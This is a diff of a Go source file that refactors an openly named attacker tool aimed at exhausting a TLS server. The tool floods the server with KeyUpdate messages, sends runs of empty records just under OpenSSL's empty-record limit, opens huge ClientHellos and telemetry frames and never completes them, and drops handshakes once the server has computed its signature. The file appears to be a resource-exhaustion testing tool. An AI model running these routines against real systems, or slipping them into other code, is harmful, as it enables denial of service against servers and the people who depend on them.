@@ -8,17 +8,17 @@ import (
 )
 
 const (
-	// recordsAtOnce is how many records are made before they are sent. A KeyUpdate takes much longer to make than to
-	// send, and a reader that keeps up with the making ends its turn.
+	// recordsAtOnce is the number of records in a write. Making a KeyUpdate takes much longer than sending it, and a
+	// reader that has read everything ends its turn.
 	recordsAtOnce = 4 << 10
 	updatesAtOnce = 16 << 10
-	// emptyInRow is one less than what OpenSSL takes without data between them (MAX_EMPTY_RECORDS).
+	// emptyInRow is one less than OpenSSL accepts without data between them (MAX_EMPTY_RECORDS).
 	emptyInRow = 31
-	// swallowed is what a push announces that is beyond telemetry.max_bytes and within max_frame_bytes.
+	// swallowed is the length of a push over telemetry.max_bytes and under max_frame_bytes.
 	swallowed = 90 << 20
 )
 
-// repeat sends what add makes until the target ends the connection or the attack is over.
+// repeat sends the records of add until the target ends the connection or the attack is over.
 func (a *attacker) repeat(connection net.Conn, version uint16, atOnce int, add func(r *records) error) error {
 	r, err := handshaken(connection, version)
 	if err != nil {
@@ -37,35 +37,38 @@ func (a *attacker) repeat(connection net.Conn, version uint16, atOnce int, add f
 	}
 }
 
-func (a *attacker) keyUpdates(connection net.Conn, _ int) error {
-	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(false) })
+func keyUpdates(requested bool) kind {
+	return func(a *attacker, connection net.Conn, _ int) error {
+		return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(requested) })
+	}
 }
 
-func (a *attacker) keyUpdateRequests(connection net.Conn, _ int) error {
-	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(true) })
+// emptyRecords sends empty records and, before OpenSSL refuses more of them, a byte of a frame that never ends.
+func emptyRecords(version uint16) kind {
+	return func(a *attacker, connection net.Conn, _ int) error {
+		next := splitter(swallowedPush())
+		return a.repeat(connection, version, recordsAtOnce/(emptyInRow+1), func(r *records) error {
+			for i := 0; i < emptyInRow; i++ {
+				r.add(recordApplication, nil)
+			}
+			r.add(recordApplication, next(1))
+			return nil
+		})
+	}
 }
 
-func (a *attacker) emptyRecords(connection net.Conn, _ int) error {
-	return a.empty(connection, tls.VersionTLS13)
+// dataRecords sends data in TLS 1.3 records of a size: the first part once, the second part over and over.
+func dataRecords(size int, data func() ([]byte, []byte)) kind {
+	return func(a *attacker, connection net.Conn, _ int) error {
+		next := splitter(data())
+		return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
+			r.add(recordApplication, next(size))
+			return nil
+		})
+	}
 }
 
-func (a *attacker) emptyRecords12(connection net.Conn, _ int) error {
-	return a.empty(connection, tls.VersionTLS12)
-}
-
-// empty sends a byte of a frame that will not be whole behind so many records that OpenSSL would else refuse more.
-func (a *attacker) empty(connection net.Conn, version uint16) error {
-	next := splitter(swallowedPush())
-	return a.repeat(connection, version, recordsAtOnce/(emptyInRow+1), func(r *records) error {
-		for i := 0; i < emptyInRow; i++ {
-			r.add(recordApplication, nil)
-		}
-		r.add(recordApplication, next(1))
-		return nil
-	})
-}
-
-// renegotiations sends an empty ClientHello; OpenSSL looks at its type only, and answers with an alert.
+// renegotiations sends empty ClientHellos. OpenSSL reads only their type, and answers with an alert.
 func (a *attacker) renegotiations(connection net.Conn, _ int) error {
 	return a.repeat(connection, tls.VersionTLS12, recordsAtOnce, func(r *records) error {
 		r.add(recordHandshake, []byte{1, 0, 0, 0})
@@ -73,34 +76,20 @@ func (a *attacker) renegotiations(connection net.Conn, _ int) error {
 	})
 }
 
-func (a *attacker) swallowedRecords(connection net.Conn, _ int) error {
-	next := splitter(swallowedPush())
-	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
-		r.add(recordApplication, next(3))
-		return nil
-	})
-}
-
-func (a *attacker) requestRecords(connection net.Conn, _ int) error {
-	request, err := produceRequest(128, 100)
-	if err != nil {
-		return err
-	}
-	next := splitter(request, request)
-	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
-		r.add(recordApplication, next(1))
-		return nil
-	})
-}
-
-// swallowedPush is the beginning of a PushTelemetry request, then nothing but zeros.
+// swallowedPush returns the beginning of a PushTelemetry request, and zeros to follow.
 func swallowedPush() ([]byte, []byte) {
 	frame := pushRequest(1, randomID(), 0, 0, make([]byte, 1<<10))
 	binary.BigEndian.PutUint32(frame, swallowed)
 	return frame, make([]byte, 1<<10)
 }
 
-// splitter hands out first and then again and again what follows, in pieces of at most the asked size.
+// endlessRequests returns Produce requests.
+func endlessRequests() ([]byte, []byte) {
+	request, _ := produceRequest(128, 100)
+	return request, request
+}
+
+// splitter returns pieces of first, and then of again over and over, each of at most the asked size.
 func splitter(first, again []byte) func(size int) []byte {
 	rest := first
 	return func(size int) []byte {
@@ -113,7 +102,7 @@ func splitter(first, again []byte) func(size int) []byte {
 	}
 }
 
-// helloRecords sends a ClientHello of the greatest length that OpenSSL waits for, and never all of it.
+// helloRecords sends a ClientHello of the greatest length that OpenSSL accepts, and never completes it.
 func (a *attacker) helloRecords(connection net.Conn, _ int) error {
 	go drain(connection)
 	next := splitter([]byte{1, 1, 0xff, 0xff, 3, 3}, make([]byte, 1<<10))
@@ -135,14 +124,14 @@ func (a *attacker) handshakes(connection net.Conn, _ int) error {
 	return io.EOF
 }
 
-// halfHandshakes ends the connection when the target's first bytes are there: it has signed by then.
+// halfHandshakes ends the connection at the target's first bytes, which come after its signature was computed.
 func (a *attacker) halfHandshakes(connection net.Conn, _ int) error {
 	stopped := &deaf{Conn: connection}
 	_ = tls.Client(stopped, &tls.Config{InsecureSkipVerify: true}).Handshake()
 	return io.EOF
 }
 
-// deaf hears one byte, which is then the end.
+// deaf reads one byte, discards it and reports the end.
 type deaf struct{ net.Conn }
 
 func (d *deaf) Read(data []byte) (int, error) {
